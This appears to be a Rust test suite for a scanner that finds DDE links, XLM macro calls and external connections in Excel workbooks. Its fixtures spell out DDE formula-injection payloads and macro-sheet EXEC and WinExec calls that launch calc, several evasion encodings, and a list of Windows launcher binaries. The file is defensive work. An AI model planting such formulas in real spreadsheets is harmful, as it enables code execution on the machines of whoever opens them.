//! Whole workbooks, written as their parts; expectations are those of `spec/excel.md` §1.9, §1.3
//! to §1.8.

use std::collections::BTreeSet;

use super::Gather;
use crate::container::opc::{Opc, Relationship};
use crate::format::ledger::Ledger;
use crate::format::{Part, Vocabulary};
use crate::limits::{Budget, Exhausted, Limit, Limits};
use crate::link::{Carrier, Confidence, Kind, Link, TechniqueId, Trigger};
use crate::location::Location;
use crate::markup::xml::{Event, Reader};

const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const STRICT: &str = "http://purl.oclc.org/ooxml/spreadsheetml/main";
const STRICT_REL: &str = "http://purl.oclc.org/ooxml/officeDocument/relationships";

struct Package {
    parts: Vec<(&'static str, String)>,
    relations: Vec<Relationship>,
    unreachable: &'static [&'static str],
    main: &'static str,
    rel: &'static str,
    read_twice: bool,
    limits: Limits,
}

/// What a package gave.
struct Given {
    links: Vec<Link>,
    gaps: usize,
    claimed: BTreeSet<(usize, String)>,
    /// Live bytes that nobody gave back.
    left: bool,
    stopped: Option<Exhausted>,
}

impl Package {
    fn new() -> Self {
        Package {
            parts: Vec::new(),
            relations: Vec::new(),
            unreachable: &[],
            main: MAIN,
            rel: REL,
            read_twice: false,
            limits: Limits::default(),
        }
    }

    /// Adds a part; `{m}` and `{r}` stand for the namespaces.
    fn part(mut self, name: &'static str, xml: &str) -> Self {
        let xml = xml.replace("{m}", self.main).replace("{r}", self.rel);
        self.parts.push((name, xml));
        self
    }

    /// A workbook with one sheet, `Tabelle1` (rId1), and external references.
    fn workbook(self, references: &[&str], more: &str) -> Self {
        let references: String = references
            .iter()
            .map(|id| format!("<externalReference r:id='{id}'/>"))
            .collect();
        self.part(
            "xl/workbook.xml",
            &format!(
                "<workbook xmlns='{{m}}' xmlns:r='{{r}}'><sheets>\
                 <sheet name='Tabelle1' sheetId='1' r:id='rId1'/></sheets>\
                 <externalReferences>{references}</externalReferences>{more}</workbook>"
            ),
        )
        .relation("xl/workbook.xml", "rId1", "xl/worksheets/sheet1.xml")
    }

    /// The sheet of [`Package::workbook`].
    fn sheet(self, rows: &str) -> Self {
        let xml = format!(
            "<worksheet xmlns='{{m}}' xmlns:r='{{r}}' \
             xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main' \
             xmlns:x14='http://schemas.microsoft.com/office/spreadsheetml/2009/9/main'>\
             {rows}</worksheet>"
        );
        self.part("xl/worksheets/sheet1.xml", &xml)
    }

    fn cell(self, formula: &str) -> Self {
        self.sheet(&format!(
            "<sheetData><row r='4'><c r='B4' t='e'><f>{formula}</f><v>#N/A</v></c></row></sheetData>"
        ))
    }

    fn link_part(self, name: &'static str, inner: &str) -> Self {
        let xml = format!("<externalLink xmlns='{{m}}' xmlns:r='{{r}}'>{inner}</externalLink>");
        self.part(name, &xml)
    }

    fn member(&self, name: &str) -> usize {
        // Parts may be added after their relationships: names are numbered by first mention.
        NAMES.iter().position(|known| *known == name).unwrap()
    }

    fn relation(mut self, source: &str, id: &str, target: &str) -> Self {
        let internal = NAMES.contains(&target);
        self.relations.push(Relationship {
            source: Some(self.member(source)),
            rels_member: 99,
            id: id.to_owned(),
            segment: String::new(),
            target: target.to_owned(),
            external: !internal,
            resolved: internal.then(|| self.member(target)),
            offset: 0,
        });
        self
    }

    fn read(self) -> Given {
        let budget = Budget::new(&self.limits, None);
        let mut gather = Gather::new(known);
        let mut stopped = None;
        for (name, xml) in &self.parts {
            let location = Location::root(Some("q.xlsx")).child(name);
            let part = Part {
                member: self.member(name),
                name,
                location: &location,
                relation: None,
                reachable: !self.unreachable.contains(name),
                techniques: &[],
            };
            for salvage in [false, true] {
                if salvage && !self.read_twice {
                    continue;
                }
                gather.begin_part(&part, salvage);
                let mut reader = Reader::new(xml.as_bytes(), &self.limits);
                if let Err(cause) = feed(&mut reader, &mut gather, &budget) {
                    stopped = Some(cause);
                }
                let techniques = reader.techniques();
                gather.end_part(&techniques);
            }
        }
        let opc = Opc {
            relationships: self.relations,
            ..Opc::default()
        };
        let mut links = Vec::new();
        let mut judge = |link| links.push(link);
        let mut ledger = Ledger::new(&self.limits, &mut judge);
        let mut claimed = BTreeSet::new();
        gather.resolve(&opc, &budget, &mut ledger, &mut claimed);
        let (gaps, _) = ledger.close();
        Given {
            links,
            gaps: gaps.len(),
            claimed,
            left: budget.charge_live(self.limits.live_bytes).is_err(),
            stopped,
        }
    }

    fn links(self) -> Vec<Link> {
        let given = self.read();
        assert_eq!((given.gaps, given.left, given.stopped), (0, false, None));
        given.links
    }

    fn only(self) -> Link {
        let mut links = self.links();
        assert_eq!(links.len(), 1, "{links:#?}");
        links.remove(0)
    }
}

const NAMES: &[&str] = &[
    "xl/workbook.xml",
    "xl/worksheets/sheet1.xml",
    "xl/externalLinks/externalLink1.xml",
    "xl/externalLinks/externalLink2.xml",
    "custom/abc.dat",
    "xl/sharedStrings.xml",
    "xl/connections.xml",
    "xl/queryTables/queryTable1.xml",
    "xl/macrosheets/sheet1.xml",
    "xl/charts/chart1.xml",
    "xl/drawings/vmlDrawing1.vml",
    "xl/drawings/drawing1.xml",
    "xl/volatileDependencies.xml",
    "xl/tables/table1.xml",
];
const EXTERNAL: &str = "xl/externalLinks/externalLink1.xml";

fn known(name: &str) -> bool {
    matches!(
        name,
        "cmd" | "rundll32" | "mshta" | "powershell" | "regsvr32"
    )
}

fn feed<R: std::io::BufRead>(
    reader: &mut Reader<R>,
    gather: &mut Gather,
    budget: &Budget<'_>,
) -> Result<(), Exhausted> {
    while let Some(event) = reader.next()? {
        match event {
            Event::Start(tag) => gather.start(&tag, budget)?,
            Event::End(name) => gather.end(name, budget)?,
            Event::Text { text, referenced } => gather.text(text, referenced, budget)?,
        }
    }
    Ok(())
}

fn triple(link: &Link) -> String {
    let reading = link.readings.first().unwrap();
    let word = |word: &Option<String>| word.clone().unwrap_or_default();
    format!(
        "{}|{}!{}",
        word(&reading.service),
        word(&reading.topic),
        word(&reading.item)
    )
}

fn triples(links: &[Link]) -> Vec<String> {
    links.iter().map(triple).collect()
}

/// §1.2, as Excel writes it.
const WRITTEN: &str = "<ddeLink xmlns:r='{r}' ddeService=\"cmd\" ddeTopic=\"/c calc.exe\">\
    <ddeItems><ddeItem name=\"_xlbgnm.A1\" advise=\"1\"/>\
    <ddeItem name=\"StdDocumentName\" ole=\"1\" advise=\"1\"/></ddeItems></ddeLink>";

fn written() -> Package {
    Package::new()
        .workbook(&["rId2"], "")
        .cell("[1]!_xlbgnm.A1")
        .link_part(EXTERNAL, WRITTEN)
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
}

#[test]
fn as_excel_writes_it() {
    let link = written().only();
    assert_eq!(triple(&link), "cmd|/c calc.exe!A1");
    assert_eq!(link.used_by, ["Tabelle1!B4"]);
    assert_eq!(link.kind, Kind::DdeAuto);
    assert_eq!(link.trigger, Trigger::Open);
    assert_eq!(link.carrier, Carrier::DdeLinkPart);
    assert_eq!(link.confidence, Confidence::Certain);
    assert_eq!(
        link.raw,
        "ddeService=\"cmd\" ddeTopic=\"/c calc.exe\" item=\"_xlbgnm.A1\""
    );
    assert_eq!(link.readings[0].resolved, "cmd|'/c calc.exe'!A1");
    assert_eq!(link.techniques, []);
    assert_eq!(
        link.location.path().collect::<Vec<_>>(),
        ["q.xlsx", EXTERNAL]
    );
}

#[test]
fn escapes_references_and_the_default_item() {
    let link = Package::new()
        .workbook(&["rId2"], "")
        .link_part(
            EXTERNAL,
            "<ddeLink ddeService=\"_x0063__x006d_d\" ddeTopic=\"/c&#32;calc\">\
             <ddeItems><ddeItem/></ddeItems></ddeLink>",
        )
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .only();
    assert_eq!(triple(&link), "cmd|/c calc!0");
    assert_eq!((link.kind, link.trigger), (Kind::Dde, Trigger::Update));
    assert!(link.has(TechniqueId::XEscapes));
    assert!(link.has(TechniqueId::CharacterReferences));
}

#[test]
fn strict_namespaces_and_traversal() {
    let mut package = Package::new();
    (package.main, package.rel) = (STRICT, STRICT_REL);
    let link = package
        .workbook(&["rId2"], "")
        .cell("[1]!A1")
        .link_part(
            EXTERNAL,
            "<ddeLink ddeService='MSEXCEL' \
             ddeTopic='\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'>\
             <ddeItems><ddeItem name='A1'/></ddeItems></ddeLink>",
        )
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .only();
    assert_eq!(
        triple(&link),
        "MSEXCEL|\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe!A1"
    );
    assert!(link.has(TechniqueId::StrictNamespace));
    // Not advised: it waits for an update.
    assert_eq!(link.kind, Kind::Dde);
    assert_eq!(link.used_by, ["Tabelle1!B4"]);
}

#[test]
fn the_position_counts_not_the_file_name() {
    let links = Package::new()
        .workbook(&["rId9", "rId2"], "")
        .cell("[2]!'INDU Index,[PX_close_5d]'")
        .link_part(
            EXTERNAL,
            "<ddeLink ddeService='BLP' ddeTopic='M'><ddeItems>\
             <ddeItem name='INDU Index,[PX_close_5d]' advise='1'/></ddeItems></ddeLink>",
        )
        .link_part(
            "xl/externalLinks/externalLink2.xml",
            "<externalBook r:id='rId1'/>",
        )
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .relation(
            "xl/workbook.xml",
            "rId9",
            "xl/externalLinks/externalLink2.xml",
        )
        .relation("xl/externalLinks/externalLink2.xml", "rId1", "Book2.xlsx")
        .links();
    assert_eq!(links.len(), 2);
    assert_eq!(triple(&links[0]), "BLP|M!INDU Index,[PX_close_5d]");
    assert_eq!(links[0].used_by, ["Tabelle1!B4"]);
    assert_eq!(links[1].target.as_deref(), Some("Book2.xlsx"));
    assert_eq!(links[1].carrier, Carrier::ExternalWorkbook);
    assert!(links[1].used_by.is_empty());
}

#[test]
fn in_a_fallback_of_an_oddly_named_part() {
    let mut package = Package::new().workbook(&["rId2"], "").cell("[1]!x").link_part(
        "custom/abc.dat",
        "<mc:AlternateContent xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006'>\
         <mc:Choice Requires='x'/><mc:Fallback>\
         <ddeLink ddeService='cmd' ddeTopic='/c calc'><ddeItems><ddeItem name='x'/></ddeItems></ddeLink>\
         </mc:Fallback></mc:AlternateContent>",
    );
    package.unreachable = &[];
    let link = package
        .relation("xl/workbook.xml", "rId2", "custom/abc.dat")
        .only();
    assert_eq!(triple(&link), "cmd|/c calc!x");
    assert!(link.has(TechniqueId::MarkupAlternative));
    assert!(!link.has(TechniqueId::Unreachable));
}

#[test]
fn text_that_only_looks_like_a_formula_is_inert() {
    let link = Package::new()
        .workbook(&[], "")
        .part(
            "xl/sharedStrings.xml",
            "<sst xmlns='{m}'><si><t>Name</t></si><si><t>=cmd|'/c calc'!A0</t></si>\
             <si><t>- item one|two!three</t></si><si><t>a|b</t></si></sst>",
        )
        .only();
    assert_eq!(link.kind, Kind::Inert);
    assert_eq!(link.carrier, Carrier::Formula);
    assert_eq!(link.trigger, Trigger::None);
    assert_eq!(triple(&link), "cmd|/c calc!A0");
    assert_eq!(link.raw, "=cmd|'/c calc'!A0");
}

#[test]
fn texts_in_cells_are_inert_once_for_all() {
    let text = "=cmd|'/c calc'!A0";
    let link = Package::new()
        .workbook(&[], "")
        .sheet(&format!(
            "<sheetData><row><c t='inlineStr'><is><r><t>=cm</t></r> <r><t>{}</t></r></is></c>\
             <c t='str'><v>\u{200b} {text}</v></c>\
             <c t='str'><f>\"=\"&amp;A1</f><v>{text}</v></c>\
             <c><v>{text}</v></c></row></sheetData>",
            &text[3..]
        ))
        .only();
    assert_eq!(
        (link.kind, triple(&link)),
        (Kind::Inert, "cmd|/c calc!A0".to_owned())
    );
    assert_eq!(link.used_by, ["Tabelle1!A1", "Tabelle1!B1"]);
}

#[test]
fn formula_text_is_live() {
    let link = Package::new()
        .workbook(&[], "")
        .cell("cmd|'/c calc'!A0+1")
        .only();
    assert_eq!((link.kind, link.carrier), (Kind::Dde, Carrier::Formula));
    assert_eq!(
        (link.trigger, link.confidence),
        (Trigger::Update, Confidence::High)
    );
    assert_eq!(triple(&link), "cmd|/c calc!A0");
    assert_eq!(link.location.cell(), Some("Tabelle1!B4"));
    assert_eq!(link.raw, "cmd|'/c calc'!A0+1");
    assert_eq!(link.readings[0].resolved, "cmd|'/c calc'!A0");

    let link = Package::new()
        .workbook(&[], "")
        .cell("VTS|Display!TagName\\Variable")
        .only();
    assert_eq!(link.confidence, Confidence::Medium);
    assert_eq!(triple(&link), "VTS|Display!TagName\\Variable");
}

#[test]
fn formula_text_split_and_disguised() {
    for (formula, technique) in [
        (
            "c<!-- x -->m<![CDATA[d|]]>'/c calc'!A0",
            Some(TechniqueId::CharacterReferences),
        ),
        (
            "&#99;md|'/c calc'!A0",
            Some(TechniqueId::CharacterReferences),
        ),
        ("_x0063_md|'/c calc'!A0", Some(TechniqueId::XEscapes)),
        ("c_x0000_md|'/c calc'!A0", Some(TechniqueId::XEscapes)),
        (
            "c\u{200b}md|'/c calc'!A0",
            Some(TechniqueId::FillerCharacters),
        ),
        ("ｃｍｄ｜'/c calc'！A0", Some(TechniqueId::FullWidth)),
        ("cmd|&apos;/c calc&apos;!A0", None),
        ("<b>cmd|</b>'/c calc'!A0", None),
    ] {
        let links = Package::new().workbook(&[], "").cell(formula).links();
        let link = links.iter().find(|link| triple(link) == "cmd|/c calc!A0");
        let link = link.unwrap_or_else(|| panic!("{formula}: {links:#?}"));
        let ids: Vec<_> = link.techniques.iter().map(|t| t.id).collect();
        match technique {
            Some(id) => assert!(ids.contains(&id), "{formula}: {ids:?}"),
            None => assert_eq!(ids, [], "{formula}"),
        }
    }
}

#[test]
fn a_formula_cut_off_by_the_end_of_its_part() {
    let link = Package::new()
        .workbook(&[], "")
        .part(
            "xl/worksheets/sheet1.xml",
            "<worksheet xmlns='{m}'><c r='B4'><f>cmd|'/c calc'!A0",
        )
        .only();
    assert_eq!(triple(&link), "cmd|/c calc!A0");
    assert_eq!(link.used_by, ["Tabelle1!B4"]);
}

#[test]
fn dde_calls_of_libreoffice() {
    let link = Package::new()
        .workbook(&[], "")
        .cell("DDE(\"cmd\",\"/C calc\",\"A0\")")
        .only();
    assert_eq!(triple(&link), "cmd|/C calc!A0");
    assert_eq!((link.kind, link.carrier), (Kind::Dde, Carrier::Formula));
    let link = Package::new()
        .workbook(&[], "")
        .cell("DDE(A1,B1,C1)")
        .only();
    assert!(link.has(TechniqueId::Unresolved));
    assert_eq!(link.confidence, Confidence::Low);
}

#[test]
fn ordinary_formulas_are_silent() {
    for formula in [
        "SUM([1]Sheet1!A1)",
        "A1&amp;\"|\"&amp;B1&amp;\"!\"",
        "_xlfn.XLOOKUP(A1,B:B,C:C)",
        "FILTERXML(\"&lt;a&gt;\"&amp;A1,\"//a\")",
        "HYPERLINK(\"#Sheet2!A1\",\"go\")",
        "HYPERLINK(A1,\"go\")",
        "{1|2}",
        "EXEC(1)",
        "[0]!Macro1",
        "Table1[[#This Row],[low|high!x]]",
        "'a|b!c'!A1",
    ] {
        let links = Package::new().workbook(&[], "").cell(formula).links();
        assert!(links.is_empty(), "{formula}: {links:#?}");
    }
}

#[test]
fn functions_that_fetch() {
    let link = Package::new()
        .workbook(&[], "")
        .cell("_xlfn.WEBSERVICE(\"http://example.invalid/?v=\"&amp;A1)")
        .only();
    assert_eq!(
        (link.kind, link.carrier),
        (Kind::ExternalLink, Carrier::Function)
    );
    assert_eq!(
        link.target.as_deref(),
        Some("http://example.invalid/?v=<expr>")
    );
    assert!(link.has(TechniqueId::Unresolved));

    let link = Package::new()
        .workbook(&[], "")
        .cell("HYPERLINK(\"http://example.invalid/\",\"x\")")
        .only();
    assert_eq!(
        (link.carrier, link.trigger),
        (Carrier::Hyperlink, Trigger::Click)
    );

    let link = Package::new()
        .workbook(&[], "")
        .cell("HYPERLINK(\"file:\"&amp;\"//host/x.exe\",\"x\")")
        .only();
    assert_eq!(
        (link.carrier, link.trigger),
        (Carrier::Function, Trigger::Click)
    );
    assert_eq!(link.target.as_deref(), Some("file://host/x.exe"));

    let link = Package::new()
        .workbook(&[], "")
        .cell("RTD(\"my.server\",,\"x\")")
        .part(
            "xl/volatileDependencies.xml",
            "<volTypes xmlns='{m}'><volType type='realTimeData'><main first='my.server'/></volType>\
             <volType type='olapFunctions'><main first='cube'/></volType></volTypes>",
        )
        .only();
    assert_eq!(link.prog_id.as_deref(), Some("my.server"));
    assert_eq!(link.used_by.len(), 2);
}

#[test]
fn every_place_of_a_formula_is_read() {
    let dde = "cmd|'/c calc'!A0";
    let chart = "http://schemas.openxmlformats.org/drawingml/2006/chart";
    let x14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main";
    let cases: &[(&'static str, String)] = &[
        (
            "xl/worksheets/sheet1.xml",
            format!(
                "<worksheet xmlns='{{m}}'><conditionalFormatting sqref='B1:B5'><cfRule>\
                 <formula>{dde}</formula></cfRule></conditionalFormatting></worksheet>"
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!("<worksheet xmlns='{{m}}'><cfvo type='formula' val=\"{dde}\"/></worksheet>"),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(
                "<worksheet xmlns='{{m}}'><dataValidations><dataValidation sqref='A1'>\
                 <formula1>1</formula1><formula2>{dde}</formula2></dataValidation></dataValidations></worksheet>"
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(
                "<worksheet xmlns='{{m}}' xmlns:y='{x14}' \
                 xmlns:z='http://schemas.microsoft.com/office/excel/2006/main'>\
                 <y:dataValidation><y:formula1><z:f>{dde}</z:f></y:formula1></y:dataValidation></worksheet>"
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(
                "<worksheet xmlns='{{m}}' xmlns:y='{x14}' \
                 xmlns:z='http://schemas.microsoft.com/office/excel/2006/main'>\
                 <y:sparkline><z:f>{dde}</z:f></y:sparkline></worksheet>"
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!("<worksheet xmlns='{{m}}'><oleObject link=\"{dde}\"/></worksheet>"),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!("<worksheet xmlns='{{m}}'><controlPr linkedCell=\"{dde}\"/></worksheet>"),
        ),
        (
            "xl/charts/chart1.xml",
            format!(
                "<c:chartSpace xmlns:c='{chart}'><c:numRef><c:f>{dde}</c:f></c:numRef></c:chartSpace>"
            ),
        ),
        (
            "xl/tables/table1.xml",
            format!(
                "<table xmlns='{{m}}'><calculatedColumnFormula>{dde}</calculatedColumnFormula></table>"
            ),
        ),
        (
            "xl/drawings/drawing1.xml",
            format!(
                "<d:wsDr xmlns:d='http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing'>\
                 <d:sp textlink=\"{dde}\"/></d:wsDr>"
            ),
        ),
        (
            "xl/drawings/vmlDrawing1.vml",
            format!(
                "<xml xmlns:x='urn:schemas-microsoft-com:office:excel'><x:ClientData>\
                 <x:FmlaLink>{dde}</x:FmlaLink></x:ClientData></xml>"
            ),
        ),
        (
            "xl/workbook.xml",
            format!(
                "<workbook xmlns='{{m}}'><definedNames><definedName name='n'>{dde}</definedName></definedNames></workbook>"
            ),
        ),
    ];
    for (name, xml) in cases {
        let links = Package::new().part(name, xml).links();
        assert_eq!(triples(&links), ["cmd|/c calc!A0"], "{xml}");
        assert_eq!(links[0].kind, Kind::Dde, "{xml}");
        let carrier = if *name == "xl/workbook.xml" {
            Carrier::Name
        } else {
            Carrier::Formula
        };
        assert_eq!(links[0].carrier, carrier, "{xml}");
    }
}

#[test]
fn used_by_names_every_kind_of_place() {
    let link = Package::new()
        .workbook(
            &["rId2"],
            "<definedNames><definedName name='n'>[1]!_xlbgnm.A1</definedName></definedNames>",
        )
        .sheet(
            "<sheetData><row r='1'><c r='B4'><f t='shared' si='0' ref='B4:B9'>[1]!_xlbgnm.A1</f></c>\
             <c r='B5'><f t='shared' si='0'/></c></row></sheetData>\
             <conditionalFormatting sqref='C1'><cfRule><formula>[1]!A1&gt;0</formula></cfRule></conditionalFormatting>",
        )
        .link_part(EXTERNAL, WRITTEN)
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .only();
    assert_eq!(
        link.used_by,
        [
            "defined name n",
            "Tabelle1!B4:B9",
            "Tabelle1!C1 (conditional format)"
        ]
    );
}

#[test]
fn an_object_that_updates_itself_makes_it_automatic() {
    let link = Package::new()
        .workbook(&["rId2"], "")
        .sheet("<oleObjects><oleObject link=\"[1]!''''\" oleUpdate='OLEUPDATE_ALWAYS'/></oleObjects>")
        .link_part(
            EXTERNAL,
            "<oleLink r:id='rId1' progId='Word.Document.8'><oleItems><oleItem name=\"'\"/></oleItems></oleLink>",
        )
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .relation(EXTERNAL, "rId1", "http://example.invalid/a.doc")
        .read();
    let [link] = link.links.as_slice() else {
        panic!("{:#?}", link.links);
    };
    assert_eq!(
        (link.kind, link.carrier),
        (Kind::ExternalLink, Carrier::OleLink)
    );
    assert_eq!(link.trigger, Trigger::Open);
    assert_eq!(link.prog_id.as_deref(), Some("Word.Document.8"));
    assert_eq!(link.target.as_deref(), Some("http://example.invalid/a.doc"));
    assert_eq!(link.used_by, ["Tabelle1!OLE object"]);
}

#[test]
fn external_books_claim_their_relationships() {
    let given = Package::new()
        .workbook(&["rId2"], "")
        .cell("SUM([1]Sheet1!A1:A3)")
        .link_part(
            EXTERNAL,
            "<externalBook r:id='rId1'/><oleLink r:id='rId7' progId='Package'/>",
        )
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .relation(EXTERNAL, "rId1", "file:///\\\\host\\share\\x.xlsx")
        .read();
    assert_eq!(given.links.len(), 2);
    let book = &given.links[0];
    assert_eq!(
        (book.kind, book.trigger),
        (Kind::ExternalLink, Trigger::Update)
    );
    assert_eq!(
        book.target.as_deref(),
        Some("file:///\\\\host\\share\\x.xlsx")
    );
    assert_eq!(book.used_by, ["Tabelle1!B4"]);
    assert_eq!(given.links[1].target, None);
    assert_eq!(given.claimed, BTreeSet::from([(2, "rId1".to_owned())]));
}

#[test]
fn orphans_and_unused_links_are_reported() {
    let mut package = Package::new()
        .workbook(&[], "")
        .link_part(EXTERNAL, WRITTEN);
    package.unreachable = &[EXTERNAL];
    let link = package.only();
    assert_eq!(triple(&link), "cmd|/c calc.exe!A1");
    assert_eq!((link.kind, link.trigger), (Kind::Dde, Trigger::Update));
    assert!(link.has(TechniqueId::Unreachable));

    let link = Package::new()
        .link_part(EXTERNAL, "<ddeLink ddeService='cmd' ddeTopic='/c calc'/>")
        .only();
    assert_eq!(triple(&link), "cmd|/c calc!");
    assert_eq!(link.readings[0].resolved, "cmd|'/c calc'");

    let link = Package::new()
        .link_part(
            EXTERNAL,
            "<ddeLink ddeService='cmd' ddeTopic='x'><ddeItem name='StdDocumentName' ole='1'/></ddeLink>",
        )
        .only();
    assert_eq!(triple(&link), "cmd|x!StdDocumentName");
}

#[test]
fn an_item_that_the_part_does_not_list() {
    let links = Package::new()
        .workbook(&["rId2"], "")
        .cell("[1]!other")
        .link_part(EXTERNAL, WRITTEN)
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .links();
    assert_eq!(
        triples(&links),
        ["cmd|/c calc.exe!A1", "cmd|/c calc.exe!other"]
    );
    assert_eq!(links[1].used_by, ["Tabelle1!B4"]);
}

#[test]
fn several_links_in_one_part_and_foreign_markup() {
    let links = Package::new()
        .link_part(
            EXTERNAL,
            "<ddeLink ddeService='a' ddeTopic='b'><ddeItem name='c'/></ddeLink>\
             <extLst><ext><ddeLink ddeService='d' ddeTopic='e'><ddeItem name='f'/></ddeLink></ext></extLst>",
        )
        .links();
    assert_eq!(triples(&links), ["a|b!c", "d|e!f"]);
    let link = Package::new()
        .part(
            "custom/abc.dat",
            "<x><ddeLink ddeService='cmd' ddeTopic='/c calc'/></x>",
        )
        .only();
    assert_eq!(link.confidence, Confidence::Low);
    let links = Package::new()
        .part(
            "custom/abc.dat",
            "<html><f>cmd|'/c calc'!A0</f><connection url='http://x'/><sheet/><si><t>=cmd|'/c'!A</t></si></html>",
        )
        .links();
    assert!(links.is_empty(), "{links:#?}");
}

#[test]
fn fillers_in_the_service() {
    let link = Package::new()
        .link_part(
            EXTERNAL,
            "<ddeLink ddeService='c_x0000_m\u{202e}d' ddeTopic='/c calc'><ddeItem name='x'/></ddeLink>",
        )
        .only();
    assert_eq!(triple(&link), "cmd|/c calc!x");
    assert!(link.has(TechniqueId::FillerCharacters) && link.has(TechniqueId::XEscapes));
}

#[test]
fn feeds_know_their_size() {
    let items: String = (0..500)
        .map(|n| format!("<ddeItem name='S{n}' advise='1'/>"))
        .collect();
    let links = Package::new()
        .link_part(
            EXTERNAL,
            &format!(
                "<ddeLink ddeService='MTX' ddeTopic='DATA'><ddeItems>{items}</ddeItems></ddeLink>"
            ),
        )
        .links();
    assert_eq!(links.len(), 500);
    assert!(links.iter().all(|link| link.siblings == 500));
}

#[test]
fn hidden_sheets_and_recalculation_are_noted() {
    for (state, technique) in [
        ("hidden", TechniqueId::HiddenSheet),
        ("veryHidden", TechniqueId::VeryHiddenSheet),
    ] {
        let link = Package::new()
            .part(
                "xl/workbook.xml",
                &format!(
                    "<workbook xmlns='{{m}}' xmlns:r='{{r}}'><sheets>\
                     <sheet name='S' r:id='rId1' state='{state}'/></sheets><externalReferences>\
                     <externalReference r:id='rId2'/></externalReferences>\
                     <calcPr fullCalcOnLoad='1'/></workbook>"
                ),
            )
            .relation("xl/workbook.xml", "rId1", "xl/worksheets/sheet1.xml")
            .cell("[1]!A1")
            .link_part(EXTERNAL, WRITTEN)
            .relation("xl/workbook.xml", "rId2", EXTERNAL)
            .only();
        assert!(link.has(technique), "{state}");
        assert!(link.has(TechniqueId::RecalculateOnLoad));
    }
}

#[test]
fn links_that_update_without_a_question() {
    let link = Package::new()
        .workbook(&["rId2"], "<workbookPr updateLinks='always'/>")
        .cell("[1]!x")
        .link_part(
            EXTERNAL,
            "<ddeLink ddeService='a' ddeTopic='b'><ddeItem name='x'/></ddeLink>",
        )
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .only();
    assert_eq!((link.kind, link.trigger), (Kind::DdeAuto, Trigger::Open));
}

#[test]
fn macro_sheets_execute() {
    let links = Package::new()
        .part(
            "xl/workbook.xml",
            "<workbook xmlns='{m}'><definedName name='_xlnm.Auto_Open'>Macro1!$A$1</definedName></workbook>",
        )
        .part(
            "xl/macrosheets/sheet1.xml",
            "<xm:macrosheet xmlns='{m}' xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'>\
             <sheetData><row><c r='A1'><f>EXEC(\"cmd /c calc\")</f></c>\
             <c r='A2'><f>CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</f></c>\
             <c r='A3'><f>INITIATE(\"cmd\",\"/c calc\")</f></c>\
             <c r='A4'><f>EXECUTE(A3,\"[open]\")</f></c>\
             <c r='A5'><f>GOTO(A1)+RUN(\"x\")+ALERT(\"y\")</f></c></row></sheetData></xm:macrosheet>",
        )
        .links();
    let seen: Vec<_> = links
        .iter()
        .map(|link| (link.kind, link.carrier, link.target.as_deref()))
        .collect();
    assert_eq!(
        seen,
        [
            (Kind::Execute, Carrier::Xlm, Some("cmd /c calc")),
            (
                Kind::Execute,
                Carrier::Xlm,
                Some("Kernel32 WinExec JCJ calc 0")
            ),
            (Kind::DdeAuto, Carrier::Xlm, None),
            (Kind::DdeAuto, Carrier::Xlm, None),
        ]
    );
    assert_eq!(triples(&links[2..]), ["cmd|/c calc!", "|![open]"]);
    assert!(links.iter().all(|link| link.trigger == Trigger::Open));
}

#[test]
fn connections_lead_outside() {
    let links = Package::new()
        .part(
            "xl/connections.xml",
            "<connections xmlns='{m}'>\
             <connection id='1' type='4' name='q'><webPr url='http://example.invalid/q'/></connection>\
             <connection id='2' type='5'><dbPr connection='Provider=SQLOLEDB;Data Source=\\\\host\\db' command='select 1'/></connection>\
             <connection id='3' type='102'><dbPr connection='WORKSHEET;C:\\x.xlsx' command='x'/></connection>\
             <connection id='4' type='5'><dbPr connection='Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Q' command='SELECT * FROM [Q]'/></connection>\
             <connection id='5' type='6' refreshOnLoad='1'><textPr sourceFile='C:\\data.txt'/></connection>\
             </connections>",
        )
        .part(
            "xl/queryTables/queryTable1.xml",
            "<queryTable xmlns='{m}' connectionId='1' refreshOnLoad='1'/>",
        )
        .links();
    let seen: Vec<_> = links
        .iter()
        .map(|link| (link.carrier, link.trigger, link.target.as_deref().unwrap()))
        .collect();
    assert_eq!(
        seen,
        [
            (Carrier::WebQuery, Trigger::Open, "http://example.invalid/q"),
            (Carrier::Connection, Trigger::Update, "\\\\host\\db"),
            (Carrier::Connection, Trigger::Open, "C:\\data.txt"),
        ]
    );
    assert!(links[1].raw.contains("command=\"select 1\""));
}

#[test]
fn a_part_read_twice_counts_once() {
    let mut package = written();
    package.read_twice = true;
    let link = package.only();
    assert_eq!(link.used_by, ["Tabelle1!B4"]);
    assert_eq!(link.siblings, 1);
}

#[test]
fn parts_may_come_in_any_order() {
    let mut package = written();
    package.parts.reverse();
    let link = package.only();
    assert_eq!(link.used_by, ["Tabelle1!B4"]);
}

#[test]
fn places_beyond_a_thousand_are_counted() {
    let cells = "<c><f>[1]!A1</f></c>".repeat(1_500);
    let link = Package::new()
        .workbook(&["rId2"], "")
        .sheet(&format!("<row r='1'>{cells}</row>"))
        .link_part(EXTERNAL, WRITTEN)
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .only();
    assert_eq!(link.used_by.len(), 1_001);
